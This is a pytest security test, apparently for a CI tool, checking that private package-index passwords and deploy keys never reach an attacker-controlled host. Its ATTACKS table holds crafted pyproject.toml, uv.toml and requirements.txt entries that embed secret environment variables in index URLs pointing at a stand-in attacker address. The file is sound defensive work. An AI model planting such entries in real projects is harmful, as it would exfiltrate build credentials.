"""The password of a package index goes to the hosts that the step's environment names, only."""

from pathlib import Path

import pytest

from tests.container.attacks import AGENT
from tests.container.listener import HOST_NETWORK, listening
from tests.container.victim import Victim

pytestmark = pytest.mark.exhaustive

PASSWORD = "of-the-index-4711"
DEPLOY = "of-the-deployment-4711"
# The host of the attacker, and that of the index which the step's environment may name.
THEIRS, OURS = "127.0.0.2", "127.0.0.1"

PROJECT = '[project]\nname = "x"\nversion = "1"\nrequires-python = ">=3.11"\n'
DEPENDENCY = PROJECT + 'dependencies = ["log-agent-tiny"]\n'


def project(url: str, *, explicit: str = "false") -> dict[str, str]:
    index = f'[[tool.uv.index]]\nname = "private"\nurl = "{url}"\nexplicit = {explicit}\n'
    source = '[tool.uv.sources]\nlog-agent-tiny = { index = "private" }\n'
    return {"agent/pyproject.toml": DEPENDENCY + index + source}


def settings(url: str) -> dict[str, str]:
    text = f'[[index]]\nname = "private"\nurl = "{url}"\n'
    return {"agent/uv.toml": text, **txt("log-agent-tiny")}


def txt(*lines: str) -> dict[str, str]:
    return {"agent/requirements.txt": "\n".join(lines) + "\n"}


URL = f"http://{THEIRS}:PORT"
ATTACKS = {
    "index of that name": project(f"{URL}/simple"),
    "explicit index": project(f"{URL}/simple", explicit="true"),
    "settings": settings(f"{URL}/simple"),
    "path": txt(
        f"log-agent-tiny @ {URL}/${{UV_INDEX_PRIVATE_PASSWORD}}/log_agent_tiny-1.0-py3-none-any.whl"
    ),
    "other variable": txt(
        f"log-agent-tiny @ {URL}/${{DEPLOY_KEY}}/log_agent_tiny-1.0-py3-none-any.whl"
    ),
    "user": txt(
        "--extra-index-url http://x:${UV_INDEX_PRIVATE_PASSWORD}@" + f"{THEIRS}:PORT/simple",
        "log-agent-tiny",
    ),
    "pip's variable": txt(f"--find-links {URL}/${{PIP_PASSWORD}}/", "log-agent-tiny"),
    "user, other variable": txt(
        "--index-url http://x:${DEPLOY_KEY}@" + f"{THEIRS}:PORT/simple", "log-agent-tiny"
    ),
}
ENVIRON = {
    "UV_INDEX_PRIVATE_USERNAME": "reader",
    "UV_INDEX_PRIVATE_PASSWORD": PASSWORD,
    "PIP_PASSWORD": PASSWORD,
    "DEPLOY_KEY": DEPLOY,
}


# With the address of its index in the step's environment, and without.
@pytest.mark.parametrize(
    ("attack", "named"),
    [*((attack, False) for attack in ATTACKS), ("index of that name", True), ("settings", True)],
)
def test_no_password_goes_to_a_host_of_the_checkouts(
    victim: Victim, tmp_path: Path, attack: str, *, named: bool
) -> None:
    folder = tmp_path / "nothing"
    folder.mkdir()
    with (
        listening(folder, wants_password=True) as theirs,
        listening(folder, wants_password=True) as ours,
    ):
        files = {
            name: text.replace("PORT", str(theirs.port)) for name, text in ATTACKS[attack].items()
        }
        victim.check_out({"agent/agent.py": AGENT, **files})
        urls = {"UV_INDEX": f"private={ours.at(OURS)}/simple"} if named else {}
        step = victim.run({"verify": "off"}, env={**ENVIRON, **urls}, options=[HOST_NETWORK])

    assert step.status in (0, 1)
    assert not [asked for asked in theirs.requests if PASSWORD in asked or DEPLOY in asked]
    assert PASSWORD.encode() not in victim.told(step)
